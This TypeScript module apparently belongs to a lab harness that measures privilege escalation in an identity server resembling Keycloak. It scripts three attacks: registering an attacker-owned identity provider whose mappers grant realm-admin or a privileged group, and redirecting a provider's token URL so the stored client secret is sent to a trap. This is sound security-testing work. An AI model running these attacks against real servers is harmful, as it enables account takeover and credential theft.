import { sendRequest, succeeded } from "../../measure/calls/send-request.ts";
import { createLab, type Lab } from "../../measure/lab.ts";
import type { Attempt } from "../attempt.ts";
import { newBrowser } from "../browser.ts";
import { proveRealmAdmin } from "../prove-realm-admin.ts";
import { startProviderTrap } from "../provider-trap.ts";
import { Refusal } from "../refusal.ts";
import type { Scene } from "../scene.ts";
import {
  adminConsole,
  authorizationRequest,
  fillSignIn,
  takeTokenInBrowser,
} from "../sign-in-by-browser.ts";

const roles = ["manage-identity-providers"];
const mallory = { name: "mallory", secret: crypto.randomUUID() };
const instances = "/identity-provider/instances";
const broker = { clientId: "broker", secret: crypto.randomUUID() };

/** A realm of the same server that stands for an OpenID provider of the attacker's own. */
async function makeOwnProvider({ baseUrl, realm, lab }: Scene): Promise<Lab> {
  const own = `${realm}-own`;
  const answer = await sendRequest(baseUrl, {
    method: "POST",
    path: "/admin/realms",
    token: lab.adminToken,
    body: {
      ...{ realm: own, enabled: true },
      clients: [{ ...broker, redirectUris: [`${baseUrl}/realms/${realm}/broker/own/endpoint*`] }],
      users: [
        {
          ...{ username: mallory.name, enabled: true, email: "mallory@example.org" },
          ...{ emailVerified: true, firstName: "Mallory", lastName: "Example" },
          credentials: [{ type: "password", value: mallory.secret }],
        },
      ],
    },
  });
  if (!succeeded(answer)) throw new Error(`Making the other realm failed: ${answer.text}`);
  return createLab({ baseUrl, realm: own, adminToken: await lab.newAdminToken(), has: () => true });
}

const providerConfig = (address: string) => ({
  issuer: address,
  authorizationUrl: `${address}/protocol/openid-connect/auth`,
  tokenUrl: `${address}/protocol/openid-connect/token`,
  jwksUrl: `${address}/protocol/openid-connect/certs`,
  useJwksUrl: "true",
  validateSignature: "true",
  clientId: broker.clientId,
  clientSecret: broker.secret,
  clientAuthMethod: "client_secret_post",
  defaultScope: "openid profile email",
  syncMode: "IMPORT",
});

/** Signs in through the attacker's own provider, which gives anyone who does so a role or a group. */
async function signInThroughOwnProvider(
  scene: Scene,
  identityProviderMapper: string,
  config: Readonly<Record<string, string>>,
): Promise<void> {
  const { baseUrl, attacker } = scene;
  const own = await makeOwnProvider(scene);
  const { caller } = attacker;
  await caller.send("POST", instances, {
    ...{ alias: "own", providerId: "oidc", enabled: true },
    config: providerConfig(`${baseUrl}/realms/${own.realm}`),
  });
  await caller.send("POST", `${instances}/own/mappers`, {
    ...{ name: "give", identityProviderAlias: "own", identityProviderMapper },
    config: { syncMode: "INHERIT", ...config },
  });
  const browser = newBrowser();
  const client = adminConsole(scene);
  const token = await takeTokenInBrowser(scene, browser, client, {
    answer: (page) => fillSignIn(browser, page, client.redirectUri, mallory),
    parameters: { kc_idp_hint: "own" },
  });
  await proveRealmAdmin(scene, token);
}

/** What changing identity providers leads to. */
export const manageIdentityProviders: readonly Attempt[] = [
  {
    id: "sign-in-through-own-identity-provider",
    roles,
    harm: "realmAdmin",
    attack: (scene) =>
      signInThroughOwnProvider(scene, "oidc-hardcoded-role-idp-mapper", {
        role: "realm-management.realm-admin",
      }),
  },
  {
    id: "join-group-through-own-identity-provider",
    roles,
    harm: "realmAdmin",
    attack: (scene) =>
      signInThroughOwnProvider(scene, "oidc-hardcoded-group-idp-mapper", {
        group: `/${scene.board.name}`,
      }),
  },
  {
    // The secret stays when the masked one is sent back, and so goes where the address says.
    id: "redirect-identity-providers-secret",
    roles,
    harm: "critical",
    attack: async (scene) => {
      const { lab, attacker } = scene;
      const config = providerConfig("https://partner.example.org");
      await lab.send("POST", instances, {
        ...{ alias: "partner", providerId: "oidc", enabled: true, config },
      });
      const partner = await attacker.caller.read<{ config: object }>(`${instances}/partner`);
      const { authorizationUrl, tokenUrl, received, stop } = await startProviderTrap();
      try {
        await attacker.caller.send("PUT", `${instances}/partner`, {
          ...partner,
          config: { ...partner.config, authorizationUrl, tokenUrl },
        });
        const parameters = { kc_idp_hint: "partner" };
        const request = authorizationRequest(scene, adminConsole(scene), { parameters });
        await newBrowser().open(request.address, "unknown:");
        const sent = received().get("client_secret");
        if (sent === null) throw new Error("Nothing was sent.");
        if (sent !== broker.secret) throw new Refusal("Something else was sent than the secret.");
      } finally {
        await stop();
      }
    },
  },
];
